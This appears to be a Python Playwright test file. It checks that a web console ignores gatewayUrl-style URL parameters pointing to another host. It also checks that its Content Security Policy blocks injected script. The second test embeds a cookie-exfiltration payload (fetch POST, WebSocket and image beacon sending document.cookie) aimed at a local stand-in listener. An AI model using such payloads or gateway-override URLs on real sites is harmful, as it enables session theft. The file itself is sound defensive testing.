"""The console belongs to the hub that served it: no address and no script makes it speak to another one."""

import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Browser, Page

from .conftest import Hub, opened


class Listener:
    """Another "hub" on this machine, that keeps what reaches it."""

    def __init__(self) -> None:
        self._server = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._server.getsockname()[1]
        self.heard: list[bytes] = []
        self._thread = threading.Thread(target=self._listen, daemon=True)
        self._thread.start()

    def _listen(self) -> None:
        while True:
            connection, _ = self._server.accept()
            with connection:
                if (said := connection.recv(65_536)) == b"end":
                    return
                self.heard.append(said)

    def close(self) -> None:
        with socket.create_connection(("127.0.0.1", self.port)) as last:
            last.sendall(b"end")
        self._thread.join()
        self._server.close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    made = Listener()
    yield made
    made.close()


ADDRESSES = (
    "?gatewayUrl=ws://127.0.0.1:{port}",
    "?gatewayUrl=ws%3A%2F%2F127.0.0.1%3A{port}&token=x",
    "?url=http://127.0.0.1:{port}&hub=http://127.0.0.1:{port}",
    "#gatewayUrl=ws://127.0.0.1:{port}",
    "#/?gatewayUrl=ws://127.0.0.1:{port}&autoConnect=1",
)


@pytest.mark.parametrize("address", ADDRESSES)
def test_an_address_in_the_url_is_nobodys(page: Page, listener: Listener, address: str) -> None:
    page.goto(f"/console/{address.format(port=listener.port)}")
    page.get_by_text("Live", exact=True).wait_for()
    assert listener.heard == []


def test_a_script_that_slipped_in_could_not_send_anything_away(
    browser: Browser, hub: Hub, session: Any, listener: Listener
) -> None:
    """The policy of the page, not the goodwill of its code, keeps what it knows here."""
    context, page, watch = opened(browser, hub, storage_state=session)
    page.goto("/console/")
    page.get_by_text("Live", exact=True).wait_for()
    tries = f"""async () => {{
        const there = "127.0.0.1:{listener.port}";
        const ended = [];
        try {{ await fetch(`http://${{there}}/`, {{method: "POST", body: document.cookie, mode: "no-cors"}}); }}
        catch (error) {{ ended.push("fetch"); }}
        await new Promise((done) => {{
            const socket = new WebSocket(`ws://${{there}}`);
            socket.onerror = () => {{ ended.push("socket"); done(); }};
        }});
        await new Promise((done) => {{
            const image = new Image();
            image.onerror = () => {{ ended.push("image"); done(); }};
            image.src = `http://${{there}}/?${{document.cookie}}`;
        }});
        return ended.join(" ") + "|" + document.cookie;
    }}"""
    assert page.evaluate(tries) == "fetch socket image|"
    context.close()
    assert any("Content Security Policy" in fault for fault in watch.faults)
    assert listener.heard == []
